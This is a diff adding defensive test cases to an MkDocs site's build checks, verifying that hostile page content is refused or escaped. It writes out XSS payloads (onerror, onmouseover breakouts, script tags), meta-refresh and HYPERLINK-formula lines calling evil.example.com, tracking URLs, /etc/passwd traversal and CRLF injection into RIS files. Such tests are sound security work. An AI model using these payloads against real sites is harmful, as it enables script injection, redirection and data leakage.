@@ -401,3 +401,177 @@ def folder_for_an_unconfigured_language(root: Path) -> str:
     (root / "translations/xx").mkdir()
     (root / "translations/xx/site.yml").write_text(f'site-name:\n  text: "{PAYLOAD}"\n', encoding="utf-8")
     return f"mkdocs.yml:{line_of(root, 'mkdocs.yml', 'languages:')}: xx: [xx] has a folder translations/xx/ but is not configured"
+
+
+# --- output: the allowlist of what a page may hold, and escaping by default (safe-out) -----------
+import csv  # noqa: E402
+import io  # noqa: E402
+import zipfile  # noqa: E402
+# Pages: tricks the line-by-line input checks of hand-written pages did not see; the output
+# allowlist (catalogue/validate/allowlist.py) refuses the page they make, at the line they are on.
+
+def _page_lines(markdown: str, marker: str, message: str) -> Callable[[Path], str]:
+    """Append `markdown` to the French home page; the problem is on the line holding `marker`."""
+    def apply(root: Path) -> str:
+        append_text(root, "docs/fr/index.md", f"\n{markdown}\n")
+        return f"docs/fr/index.md:{line_of(root, 'docs/fr/index.md', marker)}: index: [fr] {message}"
+    return apply
+
+
+OUTPUT_PAGE_CASES = {
+    "event_handler_on_a_tag_split_over_two_lines": (
+        f'Voir <img\nsrc="../assets/favicon.svg" onerror="alert(\'{PAYLOAD}\')">', 'src="../assets', ""),
+    "style_attribute_through_attr_list": (
+        f'[Voir {PAYLOAD}](communique/index.md){{ style="position:fixed;inset:0" }}', "[Voir", ""),
+    "search_metadata_through_attr_list": (
+        f'[Voir](communique/index.md){{ data-pagefind-meta="title:{PAYLOAD}" }}', "[Voir", ""),
+    "tracking_ping_through_attr_list": (
+        f'[Voir](communique/index.md){{ ping="https://tracker.example.com/{PAYLOAD}" }}', "[Voir", ""),
+    "tracking_srcset_through_attr_list": (
+        f'![logo](../assets/favicon.svg){{ srcset="https://tracker.example.com/{PAYLOAD}.png 2x" }}', "![logo]", ""),
+    "link_out_of_the_site_root": (
+        f"[{PAYLOAD}](../../../../../../../../etc/passwd)", "[hostile", ""),
+}
+CASES += [Case(name, _page_lines(markdown, marker, message))
+          for name, (markdown, marker, message) in OUTPUT_PAGE_CASES.items()]
+
+
+@case
+def page_among_the_maintainer_assets(root: Path) -> str:
+    """A file the build may not write at all: removed after the build, named where it came from."""
+    (root / "docs/assets/evil.html").write_text(f"<script>alert('{PAYLOAD}')</script>\n", encoding="utf-8")
+    return "docs/assets/evil.html: "
+
+
+# Strings that pass every input check because they are only text: the build must succeed and
+# show them as text, never as markup. Each returns the check to run on the built site.
+
+@dataclass(frozen=True)
+class Escaped:
+    name: str
+    apply: Callable[[Path], Callable]
+
+
+ESCAPED: list[Escaped] = []
+
+
+def escaped(apply: Callable[[Path], Callable]) -> Callable[[Path], Callable]:
+    ESCAPED.append(Escaped(apply.__name__, apply))
+    return apply
+
+
+REFRESH = f'0;url=https://evil.example.com/{PAYLOAD}" http-equiv="refresh'
+BREAKOUT = f'Communiqué" onmouseover="alert(\'{PAYLOAD}\')" data-x="'
+
+
+def _meta(built, path: str, name: str):
+    return built.html(path).find("meta", attrs={"name": name})
+
+
+@escaped
+def refresh_through_a_clause_text(root: Path) -> Callable:
+    write_entry(root, "fr", "communique", "op1-iii", REFRESH)
+
+    def check(built) -> None:
+        page = built.html("fr/communique/op1-iii/")
+        assert _meta(built, "fr/communique/op1-iii/", "description")["content"] == REFRESH
+        assert page.find("meta", attrs={"http-equiv": "refresh"}) is None
+    return check
+
+
+@escaped
+def attribute_breakout_through_the_site_name(root: Path) -> Callable:
+    write_entry(root, "fr", "site", "site-name", BREAKOUT)
+
+    def check(built) -> None:
+        page = built.html("fr/")
+        assert page.title.string.endswith(BREAKOUT)
+        assert not page.find(attrs={"onmouseover": True}) and not page.find(attrs={"data-x": True})
+    return check
+
+
+@escaped
+def attribute_breakout_through_a_language_name(root: Path) -> Callable:
+    replace_text(root, "mkdocs.yml", "name: Français\n", f"name: '{BREAKOUT.replace(chr(39), chr(39) * 2)}'\n")
+
+    def check(built) -> None:
+        page = built.html("communique/")
+        assert page.find("a", hreflang="fr").get_text(strip=True) == BREAKOUT
+        assert not page.find(attrs={"onmouseover": True})
+        with zipfile.ZipFile(built.site / "offline/addis-ababa-communique-fr.zip") as archive:
+            start = archive.read("index.html").decode("utf-8")
+        assert "onmouseover=" not in start.replace("onmouseover=&quot;", "")
+    return check
+
+
+@escaped
+def refresh_through_front_matter(root: Path) -> Callable:
+    replace_text(root, "docs/fr/help.md", "description: Où signaler", f"description: '{REFRESH}' # Où signaler")
+
+    def check(built) -> None:
+        page = built.html("fr/help/")
+        assert _meta(built, "fr/help/", "description")["content"] == REFRESH
+        assert page.find("meta", attrs={"http-equiv": "refresh"}) is None
+    return check
+
+
+@escaped
+def attribute_breakout_through_a_page_title(root: Path) -> Callable:
+    replace_text(root, "docs/fr/help.md", "title: Obtenir de l'aide\n", f"title: '{BREAKOUT.replace(chr(39), chr(39) * 2)}'\n")
+
+    def check(built) -> None:
+        page = built.html("fr/")  # the title is in every page's navigation, and in its own <title>
+        assert BREAKOUT in [link.get_text(strip=True) for link in page.select("nav a")]
+        assert built.html("fr/help/").title.string.startswith(BREAKOUT)
+        assert not page.find(attrs={"onmouseover": True}) and not page.find(attrs={"data-x": True})
+    return check
+
+
+@escaped
+def structured_data_in_a_hand_written_page(root: Path) -> Callable:
+    replace_text(root, "docs/fr/help.md", "title: Obtenir de l'aide\n",
+                 f"title: Obtenir de l'aide\njsonld: '{{\"@type\": \"{PAYLOAD}\"}}'\n")
+
+    def check(built) -> None:
+        assert built.html("fr/help/").find("script", type="application/ld+json") is None
+    return check
+
+
+@escaped
+def spreadsheet_formula_in_a_rationale(root: Path) -> Callable:
+    formula = f'=HYPERLINK("https://evil.example.com/{PAYLOAD}";"Source")'
+    write_entry(root, "fr", "links", "preamble/crc/art-34", formula)
+
+    def check(built) -> None:
+        rows = list(csv.reader(io.StringIO((built.site / "open-data/links.fr.csv").read_text(encoding="utf-8"))))
+        assert ["'" + formula] == [cell for row in rows for cell in row if formula in cell]
+    return check
+
+
+@escaped
+def ris_record_through_a_newline(root: Path) -> Callable:
+    write_entry(root, "fr", "site", "cite-place", f"Addis-Abeba\r\nER  - \r\nTY  - GEN\r\nTI  - {PAYLOAD}")
+
+    def check(built) -> None:
+        ris = (built.site / "fr/communique/op1-iii/cite.ris").read_bytes().decode("utf-8")
+        assert [line[:2] for line in ris.split("\r\n")].count("TY") == 1
+        assert f"CY  - Addis-Abeba ER - TY - GEN TI - {PAYLOAD}\r\n" in ris
+    return check
+
+
+# Generated pages too: a field that reaches a page unchecked is refused there, and traced back to
+# its data file's line. (Tested in test_output.py: the Markdown the core writes for `mkdocs serve`
+# holds it until the field has its own input check.)
+GENERATED_CASES: list[Case] = []
+
+
+def _generated(apply: Callable[[Path], str]) -> Callable[[Path], str]:
+    GENERATED_CASES.append(Case(apply.__name__, apply))
+    return apply
+
+
+@_generated
+def event_handler_through_a_provision_domain(root: Path) -> str:
+    replace_text(root, INSTRUMENTS, '{id: capability-1, number: "1", domain: 1,',
+                 f'{{id: capability-1, number: "1", domain: "1 onclick=alert({PAYLOAD!r})",')
+    return f"{INSTRUMENTS}:{line_of(root, INSTRUMENTS, '- {id: capability-1,')}: "
